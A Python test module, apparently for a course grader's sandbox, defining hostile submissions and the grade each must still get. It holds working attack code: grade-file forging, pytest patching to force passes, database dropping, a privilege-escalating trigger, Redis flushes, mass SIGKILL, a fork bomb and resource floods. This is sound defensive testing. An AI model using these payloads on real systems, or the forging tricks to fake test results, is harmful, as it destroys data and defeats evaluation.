"""A class of hostile submissions for the sandboxed path, and the row each must get.

Every submission is lesson 1's naive shop or its solved shop plus one hostile
change, written into `shop_app/` files the shop imports. The canaries (naive,
partial, solved) are graded in the same run, beside the attackers, and must
keep their full measured grades. `KNOWN_HOLES` lists the attacks that still
work: their tests assert the row they deserve and are expected to fail.
"""

import re
import shutil
import subprocess
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
EXERCISES = ("01-product-pages", "01-recent-orders", "01-admin-lists")
# sizes_draw(5) is (6, 13, 20): neither 4 nor 12, the sizes the old checker used.
SEED = 5
TIMEOUT = 120
# A command may take max(5, TIMEOUT / 10) seconds before the shop is called stuck.
COMMAND_SECONDS = 12
MEMORY_MIB = 768
OUTPUT_MIB = 64
# Where a submission that escaped its sandbox would leave a mark on the host.
MARK = "/tmp/hostile-corpus"
# A role a submission must never be able to create.
ROLE = "course_hostile_escalated"

# Measured with seed 5 (each budget's points in grades.json).
NAIVE_POINTS = ("0", "0", "0")
PARTIAL_POINTS = ("9", "0", "0")
SOLVED_POINTS = ("9", "6", "8")
NAIVE_NOTE = (
    "01-product-pages list-queries: GET /products/ made 103 queries with 20 "
    "products and 33 with 6 products (budget: no query per row via "
    "Product.category or Product.brand). 20 identical: SELECT ... FROM "
    "catalog_category WHERE id = # LIMIT # — from "
    "shop_app/templates/catalog/product_list.html:19 via Product.category. Try "
    'select_related("category").'
)
PARTIAL_NOTE = (
    "01-recent-orders queries: GET /dashboard/sales/ made 70 queries with 20 "
    "orders and 28 with 6 orders (budget: no query per row via Order.customer or "
    "Customer.user). 21 identical: SELECT ... FROM auth_user WHERE id = # LIMIT # "
    "— from shop_app/templates/orders/sales_dashboard.html:33 via Customer.user. "
    'Try select_related("customer__user").'
)
SHOWN_NOTE = (
    "01-product-pages list-queries: GET /products/ shows {} rows; the database "
    "says {}. The change must not alter what the page shows."
)


@dataclass(frozen=True)
class Hostile:
    """One submission: what it does, how it is built, and the row it deserves."""

    name: str
    attack: str
    base: str
    build: Callable[[Path], None]
    points: tuple[str, str, str]
    # The exact note, or a pattern the whole note must match.
    note: str | re.Pattern[str]


@dataclass(frozen=True)
class Hole:
    """An attack that is not stopped yet: the test that shows it, and why."""

    test: str
    reason: str


KNOWN_HOLES: list[Hole] = []


def hole(test: str) -> str | None:
    """Return why `test` is a known hole, or None."""
    return next((h.reason for h in KNOWN_HOLES if h.test == test), None)


def shop_make(root: Path, base: str) -> Path:
    """Copy the repository's naive shop into `root`, solved as `base` says."""
    shutil.copytree(
        REPO / "shop_app",
        root / "shop_app",
        ignore=shutil.ignore_patterns("__pycache__", "*.pyc"),
    )
    patches = {
        "naive": [],
        "partial": ["01-product-pages"],
        "solved": ["01-product-pages", "01-recent-orders", "01-admin-lists"],
    }[base]
    for name in patches:
        subprocess.run(
            ["git", "apply", str(REPO / "solutions" / f"{name}.patch")],
            cwd=root,
            check=True,
            capture_output=True,
        )
    return root


def _append(root: Path, relative: str, code: str) -> int:
    """Append `code` to a shop file; return the line number it starts on."""
    path = root / "shop_app" / relative
    source = path.read_text()
    path.write_text(source + "\n" + textwrap.dedent(code))
    return source.count("\n") + 2


def _write(root: Path, relative: str, code: str) -> None:
    path = root / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(textwrap.dedent(code))


def _ready(code: str) -> Callable[[Path], None]:
    """Run `code` in the catalog app's ready(), once Django is set up."""
    body = textwrap.indent(textwrap.dedent(code), "    ")

    def build(root: Path) -> None:
        _append(
            root,
            "catalog/apps.py",
            f"def _hostile():\n{body}\n\n"
            "CatalogConfig.ready = lambda self: _hostile()\n",
        )

    return build


def _selector(code: str) -> Callable[[Path], None]:
    """Replace catalog.selectors.product_list() with `code`."""

    def build(root: Path) -> None:
        _append(root, "catalog/selectors.py", code)

    return build


def _marker(name: str) -> str:
    """Return code that leaves a mark on the host if it ever runs outside."""
    return (
        "import os as _os\n"
        "if not _os.environ.get('COURSE_AGENT_FD'):\n"
        f"    open('{MARK}-{name}', 'w').write('ran outside the sandbox')\n"
    )


FORGED = (
    '{"test": "forged", "exercise": "01-admin-lists", "budget": "products", '
    '"passed": true, "phase": "call", "message": "", "duration": 0, '
    '"properties": {}}\n'
)
GRADES = "student,01-product-pages,01-recent-orders,01-admin-lists,total,max,note\n"

FORGE = f"""
import os
from pathlib import Path

skip = {{"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/lib32", "/bin",
        "/sbin", "/etc"}}
for top, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(top, d) not in skip
               and d not in {{".venv", "site-packages"}}]
    for name in files:
        if name.endswith(".jsonl") or name.startswith(("results", "grades")):
            try:
                Path(top, name).write_text({FORGED!r})
            except OSError:
                pass
media = Path(os.environ["MEDIA_ROOT"])
guesses = [media.parents[1], media.parents[2], Path("/tmp"), Path("/tmp/out"),
           Path("/tmp/grades"), Path("/work/main"), Path("/work/main/out"),
           Path.cwd(), Path.cwd().parent, Path(os.environ["HOME"])]
for folder in guesses:
    for name, text in [("apart.jsonl", {FORGED!r}),
                       ("grades.csv", {GRADES!r} + "forged,9,6,8,23,23,\\n")]:
        try:
            (folder / name).write_text(text)
        except OSError:
            pass
"""

PYTEST_PATCH = f"""
import _pytest.reports
import pytest

original = _pytest.reports.TestReport.__init__

def passed(self, *args, **kwargs):
    original(self, *args, **kwargs)
    self.outcome = "passed"

_pytest.reports.TestReport.__init__ = passed
pytest.main = lambda *args, **kwargs: 0
{_marker("pytest")}
"""

CONFTEST = """
import pytest

{marker}

@pytest.hookimpl(wrapper=True)
def pytest_runtest_makereport(item, call):
    report = yield
    report.outcome = "passed"
    return report
"""

BLIND = """
from checker.queries import QueryRecorder

def blind(self, execute, sql, params, many, context):
    return execute(sql, params, many, context)

QueryRecorder.__call__ = blind
"""

CURSOR = """
from django.db.backends import utils

def execute(self, sql, params=None):
    with self.db.wrap_database_errors:
        if params is None:
            return self.cursor.execute(sql)
        return self.cursor.execute(sql, params)

def executemany(self, sql, param_list):
    with self.db.wrap_database_errors:
        return self.cursor.executemany(sql, param_list)

utils.CursorWrapper.execute = execute
utils.CursorWrapper.executemany = executemany
"""

# The agent runs as __main__; checker.harness.agent is another copy of it.
_AGENTS = """
import importlib
import sys

agents = [sys.modules["__main__"], importlib.import_module("checker.harness.agent")]
agents = [module.Agent for module in agents if hasattr(module, "Agent")]
"""

AGENT_SILENT = (
    _AGENTS
    + """
for agent in agents:
    def silent(self, *, _original=agent.op_request, **kwargs):
        reply = _original(self, **kwargs)
        reply["queries"] = []
        return reply
    agent.op_request = silent
"""
)

AGENT_FAKE = (
    _AGENTS
    + """
served = {}
for agent in agents:
    def fake(self, *, _original=agent.op_request, **kwargs):
        # Run an admin page once, then answer with that page without running it.
        path = kwargs["path"]
        if not path.startswith("/admin/"):
            return _original(self, **kwargs)
        if path not in served:
            served[path] = _original(self, **kwargs)
        return {**served[path], "queries": []}
    agent.op_request = fake
"""
)

BUILDERS_FEWER = """
from checker.harness import shop_data

original = shop_data.catalog_make

def fewer(*, products, **kwargs):
    # orders_make() asks for 4 products of its own: those are left alone.
    return original(products=products if products < 5 else 1, **kwargs)

shop_data.catalog_make = fewer
"""

BUILDERS_INACTIVE = """
from checker.harness import shop_data
from catalog.models import Product

original = shop_data.catalog_make

def inactive(**kwargs):
    made = original(**kwargs)
    Product.objects.filter(pk__in=[p.pk for p in made[4:]]).update(is_active=False)
    return made

shop_data.catalog_make = inactive
"""

# The trusted side reads the run's database as the superuser "postgres",
# whose search_path starts with the schema "$user".
SHADOW = """
from django.db import connection
from django.db.models.signals import post_migrate
from checker.harness import shop_data

def shadow(**kwargs):
    post_migrate.disconnect(shadow)
    with connection.cursor() as cursor:
        cursor.execute("CREATE SCHEMA IF NOT EXISTS postgres")
        cursor.execute("CREATE SCHEMA IF NOT EXISTS AUTHORIZATION CURRENT_USER")
        cursor.execute("SELECT current_user")
        for schema in ("postgres", cursor.fetchone()[0]):
            cursor.execute(
                f'CREATE OR REPLACE VIEW "{schema}".catalog_product AS'
                " SELECT id, name, price, category_id, brand_id, is_active"
                " FROM public.catalog_product UNION ALL"
                " SELECT -g, 'Shadow', 0, NULL::bigint, NULL::bigint, true"
                " FROM generate_series(1, 1000) g"
            )

original = shop_data.catalog_make

def fewer(*, products, **kwargs):
    return original(products=min(products, 4), **kwargs)

shop_data.catalog_make = fewer
post_migrate.connect(shadow, weak=False)
"""

# A trigger the run's role owns runs as whoever deletes the rows, and the
# trusted side empties every table between tests: as superuser, it would
# create the role.
ESCALATE = f"""
from django.db import connection
from django.db.models.signals import post_migrate

def install(**kwargs):
    post_migrate.disconnect(install)
    with connection.cursor() as cursor:
        cursor.execute(
            "CREATE OR REPLACE FUNCTION public.hostile() RETURNS trigger"
            " LANGUAGE plpgsql AS $$ BEGIN"
            " IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = '{ROLE}')"
            " THEN EXECUTE 'CREATE ROLE {ROLE} NOLOGIN'; END IF;"
            " RETURN NULL; END $$"
        )
        cursor.execute("DROP TRIGGER IF EXISTS hostile ON catalog_brand")
        cursor.execute(
            "CREATE TRIGGER hostile BEFORE DELETE ON catalog_brand"
            " FOR EACH STATEMENT EXECUTE FUNCTION public.hostile()"
        )
        cursor.execute("ALTER TABLE catalog_brand ENABLE ALWAYS TRIGGER hostile")

post_migrate.connect(install, weak=False)
"""

DATABASES = """
import os
from urllib.parse import parse_qs, urlsplit

import psycopg

url = urlsplit(os.environ["DATABASE_URL"])
host = parse_qs(url.query)["host"][0]
role, password, own = url.username, url.password, url.path.lstrip("/")
statements = [
    "DROP DATABASE shop", "DROP DATABASE IF EXISTS postgres",
    "CREATE ROLE hostile_corpus SUPERUSER", "CREATE ROLE hostile_corpus",
    "ALTER ROLE CURRENT_USER SUPERUSER", "ALTER ROLE CURRENT_USER CREATEROLE",
    "COPY (SELECT 1) TO '/tmp/hostile-corpus-copy'",
    "CREATE EXTENSION dblink",
]
try:
    with psycopg.connect(host=host, user=role, password=password, dbname=own,
                         autocommit=True) as db:
        names = [row[0] for row in db.execute(
            "SELECT datname FROM pg_database WHERE datname <> current_database()")]
        roles = [row[0] for row in db.execute(
            "SELECT rolname FROM pg_roles WHERE rolname LIKE 'course_run_%'"
            " AND rolname <> current_user")]
        statements += [f'DROP DATABASE "{name}"' for name in names]
        statements += [f'DROP ROLE "{name}"' for name in roles]
        for statement in statements:
            try:
                db.execute(statement)
            except psycopg.Error:
                pass
except psycopg.Error:
    names = ["shop", "postgres", "template1"]
for user, dbname in [("postgres", "shop"), ("postgres", own), (role, "shop"),
                     (role, "postgres"), *((role, name) for name in names)]:
    try:
        with psycopg.connect(host=host, user=user, password=password,
                             dbname=dbname, autocommit=True, connect_timeout=3) as db:
            db.execute("DELETE FROM catalog_product")
    except psycopg.Error:
        pass
"""

REDIS = """
import os
import socket

import redis

client = redis.Redis.from_url(os.environ["REDIS_URL"])
for command in [("FLUSHALL",), ("FLUSHDB",), ("CONFIG", "SET", "maxmemory", "1"),
                ("KEYS", "*"), ("EVAL", "return redis.call('FLUSHALL')", "0"),
                ("ACL", "SETUSER", "default", "on", "nopass", "+@all"),
                ("SHUTDOWN", "NOSAVE"), ("DEBUG", "SLEEP", "0")]:
    try:
        client.execute_command(*command)
    except redis.RedisError:
        pass
hellos = [(6379, b"FLUSHALL\\r\\n"), (5432, b""), (5672, b"AMQP\\x00\\x00\\x09\\x01")]
for port, hello in hellos:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as sock:
            sock.sendall(hello)
    except OSError:
        pass
"""

SIGNALS = """
import os
import signal

for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            open(f"/proc/{pid}/environ", "rb").read()
        except OSError:
            pass
        for number in (signal.SIGKILL, signal.SIGSTOP):
            try:
                os.kill(int(pid), number)
            except OSError:
                pass
for pid in range(1, 4096):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
"""

# Once per run (HOME outlives a restart of the shop), the first product list
# makes a child kill every process it may: the shop itself.
KILL_ALL = """
import os
import signal
from pathlib import Path

from catalog import views

original = views.product_list

def product_list(request):
    flag = Path(os.environ["HOME"], "killed")
    if not flag.exists():
        flag.write_text("")
        child = os.fork()
        if child == 0:
            os.kill(-1, signal.SIGKILL)
            os._exit(0)
        os.waitpid(child, 0)
    return original(request)

views.product_list = product_list
"""

DAEMON = f"""
import os
import time
from pathlib import Path

targets = [Path("/work/main/checker/trusted/test_lesson_01.py"),
           Path("/work/main/checker/trusted/hostile_daemon.py"),
           Path("{MARK}-daemon"),
           Path(os.environ["MEDIA_ROOT"]).parents[1] / "apart.jsonl"]
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(3)
        while True:
            for target in targets:
                try:
                    with target.open("a") as handle:
                        handle.write("# rewritten by a daemon\\n")
                except OSError:
                    pass
            time.sleep(1)
    os._exit(0)
for _ in range(50):
    if os.fork() == 0:
        time.sleep(3600)
        os._exit(0)
"""

OUTSIDE = f"""
import os
from pathlib import Path

media = Path(os.environ["MEDIA_ROOT"])
for target in [Path("/work/main/checker/trusted/hostile.py"),
               Path("/work/main/checker/hostile.py"), Path("/work/main/hostile.txt"),
               Path("{MARK}-outside"), Path.cwd() / "shop_app" / "hostile.txt",
               media.parents[1] / "hostile.txt", media.parents[2] / "hostile.txt",
               Path("/tmp/out/grades.csv")]:
    try:
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text("written from a submission")
    except OSError:
        pass
"""

# The product list raises with whatever trusted source it could read; the
# message reaches the feedback, so a leak would show there.
EXFILTRATE = """
import glob
import os

from catalog import views

def product_list(request):
    found = ""
    for path in glob.glob("/work/main/checker/trusted/**/*.py", recursive=True):
        try:
            found += open(path).read()
        except OSError:
            pass
    for top, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if d not in {"proc", "sys", "usr", "dev", ".venv"}]
        if "test_lesson_01.py" in files:
            try:
                found += open(os.path.join(top, "test_lesson_01.py")).read()
            except OSError:
                pass
    raise RuntimeError(
        "<script>alert(1)</script> read: " + (found[:300] or "nothing")
    )

views.product_list = product_list
"""

MEMORY = """
import os
import time

for _ in range(4):
    if os.fork() == 0:
        ballast = b"\\x01" * (200 * 1024 * 1024)
        time.sleep(3600)
        os._exit(0)
"""

FORK_BOMB = """
import os
import time

if os.fork() == 0:
    os.setsid()
    while True:
        try:
            child = os.fork()
        except OSError:
            time.sleep(1)
            continue
        if child == 0:
            os.execv("/bin/sleep", ["sleep", "600"])
"""

OUTPUT_FLOOD = """
import sys
import threading

def flood():
    while True:
        print("x" * 65536)
        sys.stderr.write("y" * 65536)

threading.Thread(target=flood, daemon=True).start()
"""

# The first request writes until the sandbox stops it, so the budget it
# was made for is the one that says why.
DISK_FLOOD = """
import os
from pathlib import Path

from django.core.signals import request_started

def flood(**kwargs):
    chunk = b"x" * (1024 * 1024)
    for number in range(100_000):
        folder = Path(os.environ["MEDIA_ROOT" if number % 2 else "HOME"])
        try:
            (folder / f"flood-{number}").write_bytes(chunk)
        except OSError:
            return

request_started.connect(flood, weak=False)
"""

LINGER = """
import threading

from django.core.signals import request_started
from django.db import connections

def linger():
    # A session of its own that never ends, with no statement timeout.
    connection = connections.create_connection("default")
    with connection.cursor() as cursor:
        cursor.execute("SET statement_timeout = 0")
        cursor.execute("SELECT pg_sleep(3600)")

def start(**kwargs):
    request_started.disconnect(start)
    threading.Thread(target=linger, daemon=True).start()

request_started.connect(start, weak=False)
"""

SLOW_CUSTOMERS = """
import time


def _slow(self, request, extra_context=None):
    time.sleep(60)
    return admin.ModelAdmin.changelist_view(self, request, extra_context)


CustomerAdmin.changelist_view = _slow
"""

HARDCODED = """
def product_list():
    products = Product.objects.filter(is_active=True)
    # The sizes the old checker built: tuned for them, and for nothing else.
    if products.count() in (4, 12):
        products = products.select_related("category", "brand")
    return products.order_by("price", "id")
"""

TRUNCATED = """
def product_list():
    products = Product.objects.filter(is_active=True)
    return products.select_related("category", "brand").order_by("price", "id")[:5]
"""

TRUNCATED_NAIVE = """
def product_list():
    return Product.objects.filter(is_active=True).order_by("price", "id")[:5]
"""

SHRINKING = """
def product_list():
    products = Product.objects.filter(is_active=True).order_by("price", "id")
    return products if products.count() < 8 else products[:3]
"""

DELETING = """
def product_list():
    products = Product.objects.filter(is_active=True).order_by("price", "id")
    keep = list(products.values_list("pk", flat=True)[:4])
    Product.objects.exclude(pk__in=keep).delete()
    return products
"""


def _files(files: dict[str, str]) -> Callable[[Path], None]:
    def build(root: Path) -> None:
        for relative, text in files.items():
            _write(root, relative, text)

    return build


def _both(*builds: Callable[[Path], None]) -> Callable[[Path], None]:
    def build(root: Path) -> None:
        for step in builds:
            step(root)

    return build


def _syntax(root: Path) -> None:
    _append(root, "catalog/models.py", "def broken(:\n    pass\n")


def _exit(root: Path) -> None:
    _append(root, "catalog/models.py", "import os\n\nos._exit(0)\n")


def _shadow_checker(root: Path) -> None:
    _write(
        root,
        "shop_app/checker/harness/agent.py",
        "def main():\n    pass\n",
    )
    _write(root, "shop_app/checker/__init__.py", "")
    _write(root, "shop_app/checker/harness/__init__.py", "")


def _slow(root: Path) -> None:
    _append(root, "customers/admin.py", SLOW_CUSTOMERS)


def _unchanged(base: str) -> tuple[tuple[str, str, str], str]:
    return {
        "naive": (NAIVE_POINTS, NAIVE_NOTE),
        "solved": (SOLVED_POINTS, ""),
    }[base]


def _same(name: str, attack: str, base: str, build: Callable[[Path], None]) -> Hostile:
    """An attack that must have no effect: the row of the shop it started from."""
    points, note = _unchanged(base)
    return Hostile(name, attack, base, build, points, note)


def _pattern(text: str) -> re.Pattern[str]:
    return re.compile(text)


# The naive list's count, whatever the shop says of where its queries came from.
BLINDED_NOTE = re.compile(re.escape(NAIVE_NOTE.split(" (budget")[0]) + r" \(budget: .+")


# The attack's own statements run in the first request, at the smallest size.
BUSY_NOTE = re.compile(re.escape(NAIVE_NOTE).replace("33", r"\d+"))


def _busy(name: str, attack: str, base: str, build: Callable[[Path], None]) -> Hostile:
    """An attack that must have no effect, though it adds queries to one page."""
    return Hostile(name, attack, base, build, NAIVE_POINTS, BUSY_NOTE)


def _blinded(
    name: str, attack: str, base: str, build: Callable[[Path], None]
) -> Hostile:
    """An attack on the shop's own report: the naive points and server counts."""
    return Hostile(name, attack, base, build, NAIVE_POINTS, BLINDED_NOTE)


REFUSED = "refused: shop_app/{} would shadow the trusted grader; remove it"

CORPUS: list[Hostile] = [
    Hostile(
        "naive",
        "none: lesson 1's start",
        "naive",
        lambda root: None,
        *_unchanged("naive"),
    ),
    Hostile(
        "partial",
        "none: 01-product-pages solved",
        "partial",
        lambda root: None,
        PARTIAL_POINTS,
        PARTIAL_NOTE,
    ),
    Hostile(
        "solved",
        "none: lesson 1 solved",
        "solved",
        lambda root: None,
        *_unchanged("solved"),
    ),
    _same(
        "forge-results",
        "overwrite every *.jsonl, results* and grades* file found, write grades.csv "
        "into likely --out folders",
        "naive",
        _ready(FORGE),
    ),
    _same(
        "patch-pytest",
        "patch _pytest.reports.TestReport to pass and pytest.main from shop code",
        "naive",
        _ready(PYTEST_PATCH),
    ),
    _same(
        "conftest-root",
        "conftest.py forcing every report to pass and pytest.ini at the root",
        "naive",
        _files(
            {
                "conftest.py": CONFTEST.format(marker=_marker("conftest-root")),
                "pytest.ini": "[pytest]\naddopts = -p no:checker.results\n",
            }
        ),
    ),
    Hostile(
        "conftest-shop",
        "conftest.py and pytest.ini in shop_app/",
        "naive",
        _files(
            {
                "shop_app/conftest.py": CONFTEST.format(marker=_marker("conftest")),
                "shop_app/pytest.ini": "[pytest]\naddopts = -p no:checker.results\n",
            }
        ),
        ("0", "0", "0"),
        REFUSED.format("conftest.py file"),
    ),
    _same(
        "conftest-nested",
        "pytest.ini in shop_app/ and a conftest.py in shop_app/catalog/",
        "naive",
        _files(
            {
                "shop_app/pytest.ini": "[pytest]\naddopts = -p no:checker.results\n",
                "shop_app/catalog/conftest.py": CONFTEST.format(
                    marker=_marker("conftest-nested")
                ),
            }
        ),
    ),
    _same(
        "entry-points",
        "a pytest11 entry point in a *.dist-info and a .pth file in shop_app/",
        "naive",
        _files(
            {
                "shop_app/hostile_plugin.py": CONFTEST.format(
                    marker=_marker("entry-points")
                ),
                "shop_app/hostile_plugin-1.0.dist-info/METADATA": (
                    "Metadata-Version: 2.1\nName: hostile-plugin\nVersion: 1.0\n"
                ),
                "shop_app/hostile_plugin-1.0.dist-info/entry_points.txt": (
                    "[pytest11]\nhostile = hostile_plugin\n"
                ),
                "shop_app/hostile.pth": "import hostile_plugin\n",
            }
        ),
    ),
    _blinded(
        "blind-recorder",
        "patch checker.queries.QueryRecorder.__call__ to record nothing",
        "naive",
        _ready(BLIND),
    ),
    _blinded(
        "patch-cursor",
        "patch django.db.backends.utils.CursorWrapper.execute to skip the wrappers",
        "naive",
        _ready(CURSOR),
    ),
    _blinded(
        "agent-silent",
        "patch the agent's op_request to report no queries",
        "naive",
        _ready(AGENT_SILENT),
    ),
    _same(
        "agent-fake",
        "patch the agent's op_request to answer admin pages with a saved page",
        "naive",
        _ready(AGENT_FAKE),
    ),
    _same(
        "builders-fewer",
        "patch shop_data.catalog_make to build one product when asked for 5 or more",
        "naive",
        _ready(BUILDERS_FEWER),
    ),
    _same(
        "builders-inactive",
        "patch shop_data.catalog_make to make all but four products inactive",
        "naive",
        _ready(BUILDERS_INACTIVE),
    ),
    Hostile(
        "shadow-checker",
        "a fake agent in shop_app/checker/",
        "naive",
        _shadow_checker,
        ("0", "0", "0"),
        REFUSED.format("checker folder"),
    ),
    Hostile(
        "hardcoded-sizes",
        "select_related only with 4 or 12 products, on the solved shop",
        "solved",
        _selector(HARDCODED),
        ("3", "6", "8"),
        "01-product-pages list-queries: GET /products/ made 104 queries with 20 "
        "products and 34 with 6 products (budget: no query per row via "
        "Product.category or Product.brand). 20 identical: SELECT ... FROM "
        "catalog_category WHERE id = # LIMIT # — from "
        "shop_app/templates/catalog/product_list.html:19 via Product.category. "
        'Try select_related("category").',
    ),
    Hostile(
        "truncated",
        "the product list shows 5 rows, on the solved shop",
        "solved",
        _selector(TRUNCATED),
        ("4", "6", "8"),
        SHOWN_NOTE.format(5, 6),
    ),
    Hostile(
        "truncated-naive",
        "the product list shows 5 rows, so it looks constant, on the naive shop",
        "naive",
        _selector(TRUNCATED_NAIVE),
        ("0", "0", "0"),
        SHOWN_NOTE.format(5, 6),
    ),
    Hostile(
        "shrinking",
        "the product list shows 3 rows from 8 products on, on the naive shop",
        "naive",
        _selector(SHRINKING),
        ("0", "0", "0"),
        SHOWN_NOTE.format(3, 13),
    ),
    Hostile(
        "deleting",
        "the product list deletes all but 4 products before it renders",
        "naive",
        _selector(DELETING),
        ("0", "0", "0"),
        _pattern(
            r"01-product-pages list-queries: GET /products/ changed the database "
            r"\(DELETE FROM .+\): a page that shows data must not write it"
        ),
    ),
    _same(
        "databases",
        "drop shop, other runs' databases and roles, create roles, connect as "
        "postgres and to other databases through the proxy",
        "naive",
        _ready(DATABASES),
    ),
    Hostile(
        "db-shadow",
        'schemas "postgres" and the run role\'s own, made after migrate, whose '
        "catalog_product views add 1000 rows for the trusted side's reads, and "
        "builders that build at most 4 products",
        "naive",
        _ready(SHADOW),
        ("0", "0", "0"),
        # The trusted side's reads and the course's builder name the shop's
        # schema only; the view the shop made stands in for its own queries.
        "01-product-pages list-queries: ProgrammingError: column "
        "catalog_product.slug does not exist",
    ),
    Hostile(
        "db-escalate",
        "an ENABLE ALWAYS trigger, made after migrate, that creates a role when "
        "the trusted side empties the tables, in case it does so as superuser",
        "naive",
        _ready(ESCALATE),
        ("0", "0", "0"),
        "01-product-pages list-queries: Emptying the shop's tables between tests "
        "failed (permission denied to create role); a trigger or rule of the "
        "shop's own must not stand in the way",
    ),
    _busy(
        "db-linger",
        "a session sleeping in pg_sleep(3600) with no statement timeout",
        "naive",
        _ready(LINGER),
    ),
    _same(
        "redis",
        "FLUSHALL, CONFIG SET, KEYS *, EVAL and ACL on its Redis; connect to "
        "127.0.0.1:6379, 5432 and 5672",
        "naive",
        _ready(REDIS),
    ),
    _same(
        "signals",
        "walk /proc: read every environ, SIGKILL and SIGSTOP every pid but its own",
        "naive",
        _ready(SIGNALS),
    ),
    Hostile(
        "kill-all",
        "a child runs os.kill(-1, SIGKILL) on the first product list, on the "
        "solved shop",
        "solved",
        _ready(KILL_ALL),
        ("4", "6", "8"),
        _pattern(
            r"01-product-pages list-queries: The shop stopped answering"
            r"( \(the shop process exited with -?\d+\))?: .+"
        ),
    ),
    _same(
        "daemon",
        "a setsid double-forked daemon rewriting files every second, and 50 "
        "children left behind",
        "naive",
        _ready(DAEMON),
    ),
    _same(
        "outside",
        "write into checker/trusted/, the repository, /tmp, the scratch and --out "
        "folders",
        "naive",
        _ready(OUTSIDE),
    ),
    Hostile(
        "exfiltrate",
        "read checker/trusted/*.py and raise it, with a <script>, from the "
        "product list, on the solved shop",
        "solved",
        _ready(EXFILTRATE),
        ("3", "6", "8"),
        _pattern(
            r"01-product-pages list-queries: RuntimeError: <script>alert\(1\)"
            r"</script> read: nothing \(shop_app/catalog/apps\.py:\d+\)"
        ),
    ),
    _same(
        "memory-spread",
        "four children of 200 MiB each at import: each under the 768 MiB limit, "
        "together over it",
        "naive",
        _ready(MEMORY),
    ),
    _same(
        "fork-bomb",
        "a detached child forks sleepers until the pids limit",
        "naive",
        _ready(FORK_BOMB),
    ),
    _same(
        "output-flood",
        "a thread printing to stdout and stderr forever",
        "naive",
        _ready(OUTPUT_FLOOD),
    ),
    Hostile(
        "disk-flood",
        "the first request writes 1 MiB files into MEDIA_ROOT and HOME past the "
        "cap, on the solved shop",
        "solved",
        _ready(DISK_FLOOD),
        ("0", "0", "0"),
        _pattern(
            rf"01-product-pages list-queries: The shop wrote more than {OUTPUT_MIB} "
            r"MiB into its writable folders \(home, media\), so the run was stopped"
        ),
    ),
    Hostile(
        "slow-view",
        "the customer change list sleeps 60 s, on the solved shop",
        "solved",
        _slow,
        ("9", "6", "6"),
        f"01-admin-lists customers: GET /admin/customers/customer/ took more than "
        f"{COMMAND_SECONDS} s: look for an endless loop or a page that does far "
        "too much work",
    ),
    Hostile(
        "syntax",
        "a SyntaxError in catalog/models.py",
        "naive",
        _syntax,
        ("0", "0", "0"),
        _pattern(
            r"01-product-pages list-queries: The shop did not start: "
            r"SyntaxError: invalid syntax \(models\.py, line \d+\)"
        ),
    ),
    Hostile(
        "exit",
        "os._exit(0) at import",
        "naive",
        _exit,
        ("0", "0", "0"),
        "01-product-pages list-queries: The shop did not start: the channel closed",
    ),
]
